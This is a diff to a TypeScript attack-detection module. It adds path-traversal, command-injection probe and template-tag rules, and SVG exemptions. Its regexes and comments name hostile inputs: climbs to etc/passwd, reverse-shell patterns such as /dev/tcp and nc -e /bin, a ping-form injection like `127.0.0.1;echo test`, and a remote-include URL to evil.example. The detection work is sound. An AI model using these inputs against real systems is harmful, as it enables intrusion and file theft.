@@ -642,6 +642,26 @@ const TRAVERSAL = [
  * (`.. / .. / etc / passwd`).
  */
 const CLIMB_SEPARATOR = /\.{2,4}\/?\.{0,2}((?:%[0-9a-z]{1,2}|0x[0-9a-f]{2}|[\u0080-\uffff]){1,3})(?:[\\/]?\.{2,4}\/?\.{0,2}\1){0,12}(?:etc\1(?:passwd|shadow|issue|hosts|group)\b|(?:windows|winnt)\1system32\b|boot\.ini\b|win\.ini\b)|(?:\.\.[ \t]{1,2}[/\\][ \t]{0,2}){2,16}(?:etc|windows|winnt|boot)\b/
+/**
+ * (fifty-eighth round, the spent hundred-and-thirty-seventh part's miss) An absolute path, a whole value of no blank, that climbs above its
+ * own root (`/jbfm/../../`, `/api/../../../etc/passwd`, `C:\inetpub\..\..\x`): no file has a parent of its root, so the climb is
+ * written for a server that joins the value to a folder of its own. No benign value of any part climbs so (a relative import climbs from
+ * a file, not from a root; `/docs/../guide` stays under it). Not under a redirect parameter, whose path is a URL's (`next=/../index.html`,
+ * a page of ours: a browser drops the climb).
+ */
+const PATH_SEPARATOR = /[/\\]/
+const ROOTED_PATH = /^(?:[a-z]:)?[/\\](?![/\\])[^\s?#]{0,300}$/
+function climbsAboveRoot(path: string): boolean {
+  if (path.length > 300 || !ROOTED_PATH.test(path)) return false
+  let depth = 0
+  // after the root's separator (the first character's, or a drive's, `c:\`)
+  for (const segment of path.slice(path.charCodeAt(1) === 58 ? 3 : 1).split(PATH_SEPARATOR)) {
+    if (segment === '..') {
+      if (--depth < 0) return true
+    } else if (segment !== '' && segment !== '.') depth++
+  }
+  return false
+}
 const LONE_CLIMB = /^\s{0,4}[/\\]?(?:\.\.[/\\]{1,3}){1,16}(?:\.\.)?\s{0,4}$|^\s{0,4}(?:[/\\]{1,3}\.\.){1,16}[/\\]?\s{0,4}$/
 /** A query string given as a value: names, each with a value or none, joined by `&`. */
 const QUERY_VALUE = /^[a-z_][\w.[\]-]{0,40}=[^&\n\r]{0,500}(?:&[a-z_][\w.[\]-]{0,40}(?:=[^&\n\r]{0,500})?){0,30}$/i
@@ -980,9 +1000,17 @@ const CMD_RUN = /\bcmd(?:\.exe)?\s+\/[ck]\s/
  * followed by a blank, a separator or the end.
  */
 const SLEEP_PROBE = /^\s*sleep\s+\d{1,4}(?:\.\d{1,3})?s?\s*(?:&&|\|\|?|;)\s*(?:echo|printf|id|whoami|uname|hostname|curl|wget|nslookup)(?=[\s;&|]|$)/
+/**
+ * (fifty-eighth round, the spent parts' misses) A value that is a host or an address, then a separator and an echo (`127.0.0.1;echo test`,
+ * `example.com && printf x`, `10.0.0.1%0aecho hi`): what a ping or lookup form is sent to prove its address is handed to a shell. An echo
+ * of words alone is read nowhere else (a chat's `ok; echo that`); a field's address is no sentence. Not in a program's source (left out
+ * of PROGRAM_RCE and CODE_RCE, as SLEEP_PROBE).
+ */
+const ADDRESS_PROBE = /^\s*(?:\d{1,3}(?:\.\d{1,3}){3}|localhost|[a-z0-9](?:[a-z0-9-]{0,62}\.){1,6}[a-z]{2,24})(?::\d{1,5})?\s*(?:&&|\|\|?|;|&|\n)\s*(?:echo|printf)\s+\S/
 const RCE = [
   RFI,
   SLEEP_PROBE,
+  ADDRESS_PROBE,
   PARAMETER_CUTS,
   /\/dev\/tcp\/\d|\bbash\s+-i\s*>&|\bnc(?:at)?\s+(?:-[a-z]+\s+){0,4}-e\s+\/bin|\bmkfifo\s+\/tmp/,
   // (found by the forty-fifth round's fifth review, older than the round) zsh's glob qualifiers that run a command for each file a glob
@@ -1119,9 +1147,14 @@ const SSTI = [
  * application's own pages sent as data (the hundred-and-twenty-sixth part's), which SSTI_TAG and SSTI_SHORT read as probes. A tag's text
  * after the `{%`, for a lookahead. (Fifty-second round: and a condition on one name of the application's data, dotted or negated, `{% if
  * helpdesk_settings.HELPDESK_ENABLE_ATTACHMENTS %}`, `{% if entry.Books.comments[0] %}` — no engine object (`request`, `config`,
- * `self`, …), no call, literal or operator but an index: a probe's condition computes or reaches.)
+ * `self`, …), no call, literal or operator but an index: a probe's condition computes or reaches.) * (Fifty-eighth round, the spent hundred-and-thirty-eighth part's: and Twig's, a template of a namespace the application registered,
+ * `{% include '@molecules/callout/callout.twig' %}`, `{% extends '@hdbt/content/node.html.twig' %}`, a Drupal theme's component; and
+ * Jekyll's, an include's file named without quotes with its parameters, `{%- include snippets/prepend-baseurl.html path=site.url -%}`,
+ * `{% include functions.html func='log' %}` — a file of the site's own `_includes`, which no other engine parses, no climb nor root.)
  */
-const OWN_TEMPLATE_TAG = String.raw`if\s{1,4}(?:not\s{1,4})?(?!(?:request|config|self|settings|app|session|g|lipsum|cycler|joiner|namespace|_self|_context|range|dict|url_for|get_flashed_messages)\b)[a-z_]\w{0,40}(?:\.[a-z_]\w{0,40}|\[\d{1,4}\]){0,6}\s{0,4}-?%\}|load(?:\s{1,4}[a-z_][\w.]{0,40}){1,8}\s{0,4}-?%\}|(?:extends|include)\s{1,4}(?:"[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2)"|'[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2)')(?:\s{1,4}with(?:\s{1,4}[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|[a-z_]\w{0,60}|\d{1,9})){1,12}(?:\s{1,4}only)?)?\s{0,4}-?%\}`
+/** a name of the application's data, not an engine's object (OWN_TEMPLATE_TAG) */
+const OWN_NAME = String.raw`(?!(?:request|config|self|settings|app|session|g|lipsum|cycler|joiner|namespace|_self|_context|range|dict|url_for|get_flashed_messages)\b)`
+const OWN_TEMPLATE_TAG = String.raw`if\s{1,4}(?:not\s{1,4})?${OWN_NAME}[a-z_]\w{0,40}(?:\.[a-z_]\w{0,40}|\[\d{1,4}\]){0,6}\s{0,4}-?%\}|load(?:\s{1,4}[a-z_][\w.]{0,40}){1,8}\s{0,4}-?%\}|(?:extends|include)\s{1,4}(?:"@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)"|'@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)')(?:\s{1,4}with(?:\s{1,4}[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|[a-z_]\w{0,60}|\d{1,9})){1,12}(?:\s{1,4}only)?)?\s{0,4}-?%\}|include\s{1,4}[\w-][\w.-]{0,60}(?:\/[\w-][\w.-]{0,60}){0,8}\.(?:html|md|markdown|js|css|scss|svg|liquid|txt|xml|json)(?:\s{1,4}[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|${OWN_NAME}[a-z_][\w.]{0,60}|\d{1,9})){0,12}\s{0,4}-?%\}`
 /** Jinja/Twig/Nunjucks tags: a probe anywhere but in a Markdown document, where they are its site generator's (`{% include 'x.html' %}`). */
 const SSTI_TAG = new RegExp(String.raw`\{(?<!\{\{)%-?\s*(?!${OWN_TEMPLATE_TAG})(?:import|include|extends|set|for|if|print|debug|raw|do|macro|from|end(?:for|if|block|macro|set|raw|with|filter|autoescape|call))\b[^%]{0,200}?%\}`)
 
@@ -1568,7 +1601,7 @@ const FILE_NAMED_KEY = /[\w-]\.(?:js|css|html|xml|pdf)$/
 /** What a whole shell program's own syntax is (`${${(z)x}[1]}`, `${LBUFFER:0:1}`): the rest of RCE judges one. */
 // (forty-sixth round: nor cmd.exe run on a command line, `cd tests && start cmd /c npm run serve-test .` in a package's scripts, as `bash -c`
 // never was: a whole program's or a command field's own command line may start a shell; what stays is a download or a reverse shell)
-const PROGRAM_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== PHP_COMPLEX && re !== VARIABLE_SLICE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== CMD_RUN)
+const PROGRAM_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== ADDRESS_PROBE && re !== PHP_COMPLEX && re !== VARIABLE_SLICE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== CMD_RUN)
 /**
  * (thirty-eighth round) A Bicep file's (BICEP_DECLARATION): its strings' `${…}` interpolate its own functions, `'${replace('-..--..-', '.',
  * '-')}'`; PHP's complex syntax with any other function, or its `@` (`${@print(md5(1))}`), is still read, and so is the rest
@@ -1589,7 +1622,7 @@ const BICEP_RCE = RCE.map((re) => (re === PHP_COMPLEX ? BICEP_COMPLEX : re))
  * interpreter one-liners and PHP's sinks are payloads there.
  */
 // (twenty-third round: and PHP's complex syntax with any function, `${name()}`, which is Kotlin's, Groovy's and JavaScript's string template calling its own)
-const CODE_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== PHP_COMPLEX && !/getruntime|__import__|child_process/.test(re.source))
+const CODE_RCE = RCE.filter((re) => re !== SLEEP_PROBE && re !== ADDRESS_PROBE && re !== RCE_CALLS && re !== RFI && re !== PARAMETER_CUTS && re !== PHP_COMPLEX && !/getruntime|__import__|child_process/.test(re.source))
 /**
  * (twenty-eighth round) A Perl program's source (`package Foo;`, `use strict;`) calls `system` and `exec` as Python's calls
  * `subprocess`: its own process calls, not PHP's sinks.
@@ -2478,7 +2511,7 @@ function inertAt(v: string, at: number, close: number, comments: boolean): boole
   if (close !== -1 && (element.includes('<!') || quotesOpen(element))) return false
   let icon = element.includes('<use') ? element.replace(LOCAL_USE, '<g/>') : element
   if (icon.includes('<style')) icon = icon.replace(INERT_SVG_STYLE, '')
-  return SVG_ICON.test(icon) && SVG_DRAWING.test(icon) && !SVG_ACTIVE.test(icon)
+  return SVG_ICON.test(icon) && (SVG_DRAWING.test(icon) || (at === 0 && SVG_OPENING_ALONE.test(icon))) && !SVG_ACTIVE.test(icon)
 }
 /**
  * (thirty-fourth round) An SVG image as a base64 `data:` URL (a dashboard's, a manifest's or a theme's icon): decoded, an image that
@@ -2740,6 +2773,13 @@ const LOCAL_USE = new RegExp(String.raw`<use${USE_PLACEMENT}[ \t\n\f\r]{1,4}(?:x
  */
 // (fourth review: where a tag has ended, AFTER_TAG, and no quote or `=` in it — inside an attribute's value it hid a handler)
 const INERT_SVG_STYLE = new RegExp(String.raw`<style${AFTER_TAG('style')}(?:[ \t\n\f\r]{1,4}type[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])text\/css\1)?[ \t\n\f\r]{0,4}>(?![^<]{0,2000}?(?:url|expression|behavio|binding|javascript|import|image-set|src))[^<>&\\@"'=]{0,2000}<\/style>`, 'g')
+/**
+ * (fifty-eighth round, the spent hundred-and-thirty-fourth part's) an icon's opening tag and nothing after it, a value of its own
+ * (`"header": "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"125\" …>"`, an avatar builder's parts kept field by field): it draws
+ * and runs nothing; its attributes are judged as an icon's are. Only as the whole value: after other markup (`<div id="88"><svg
+ * xmlns=…>`, a vector list's opening) it is read as before
+ */
+const SVG_OPENING_ALONE = /^<svg\b[^<>]{0,400}>\s*$/
 const SVG_DRAWING = /<(?:path|g|circle|rect|line|polyline|polygon|ellipse|defs|symbol|mask|clippath|lineargradient|radialgradient|stop|text|tspan|title)\b/
 const SVG_ACTIVE = /<(?:[a-z][\w.-]{0,20}:)?(?:use|foreignobject|animate\w{0,20}|set|feimage|image|a|script|iframe|handler|listener|discard|style|object|embed)\b|<!|\b(?:xlink:)?href\s*=|\bon[a-z]{3,40}\s*=|javascript\s*:|data\s*:/
 /** String literals of one line (a component's `ref('<span style=…>')`). */
@@ -4188,7 +4228,7 @@ export class AttackDetector {
         whole = v.replace(SENTENCE_SYSTEM_FILES, ' a-file ')
       }
       // (a configuration's climb to a directory, `"path": "../../"`, is its own; to a server's file it is not)
-      if (!(path.includes(';') && WINDOWS_PATH_LIST.test(path)) && (anyOf(judges, path) || (path !== whole && anyOf(judges, whole)) || (mode !== PAGE_URL && mode !== PATH && !this.#document && !configuration && !code && LONE_CLIMB.test(path)) || (!this.#document && !configuration && !code && CLIMB_SEPARATOR.test(path)) || (mode !== PATH && mode !== PAGE_URL && !this.#document && ((ABSOLUTE_PATH.test(path) && !(commandField && PROGRAM_FILE.test(path)) && !DRIVE_DOCUMENT.test(path) && !PROGRAM_DIRECTORIES.test(path)) || ((keyInfo & FILE_KEY) !== 0 && (SERVER_FILE.test(path) || (path !== v && SERVER_FILE.test(v))) && (!configuration || SERVER_EXTENSION.test(path)) && !ASSET_CLIMB.test(path) && !(key === 'module' && BUILT_MODULE_CLIMB.test(path)) && !PLACEHOLDER_PATH.test(path)) || (!configuration && !code && (CLIMB_TO_SERVER_FILE.test(path) || (path !== v && CLIMB_TO_SERVER_FILE.test(v)))) || ((keyInfo & FILE_KEY) !== 0 && RELATIVE_SYSTEM_PATH.test(path)))))) found |= BIT.path_traversal
+      if (!(path.includes(';') && WINDOWS_PATH_LIST.test(path)) && (anyOf(judges, path) || (path !== whole && anyOf(judges, whole)) || (mode !== PAGE_URL && mode !== PATH && !this.#document && !configuration && !code && (LONE_CLIMB.test(path) || (path.includes('..') && (keyInfo & REDIRECT_KEY) === 0 && climbsAboveRoot(path)))) || (!this.#document && !configuration && !code && CLIMB_SEPARATOR.test(path)) || (mode !== PATH && mode !== PAGE_URL && !this.#document && ((ABSOLUTE_PATH.test(path) && !(commandField && PROGRAM_FILE.test(path)) && !DRIVE_DOCUMENT.test(path) && !PROGRAM_DIRECTORIES.test(path)) || ((keyInfo & FILE_KEY) !== 0 && (SERVER_FILE.test(path) || (path !== v && SERVER_FILE.test(v))) && (!configuration || SERVER_EXTENSION.test(path)) && !ASSET_CLIMB.test(path) && !(key === 'module' && BUILT_MODULE_CLIMB.test(path)) && !PLACEHOLDER_PATH.test(path)) || (!configuration && !code && (CLIMB_TO_SERVER_FILE.test(path) || (path !== v && CLIMB_TO_SERVER_FILE.test(v)))) || ((keyInfo & FILE_KEY) !== 0 && RELATIVE_SYSTEM_PATH.test(path)))))) found |= BIT.path_traversal
     }
     // (twenty-ninth round) a remote file handed to a parameter that names a file, its URL ending on an empty query or a NUL that cuts
     // off what the application appends (`page=http://evil.example/shell.txt?`, `config[path]=http://10.0.0.5:8080/x?`): a remote
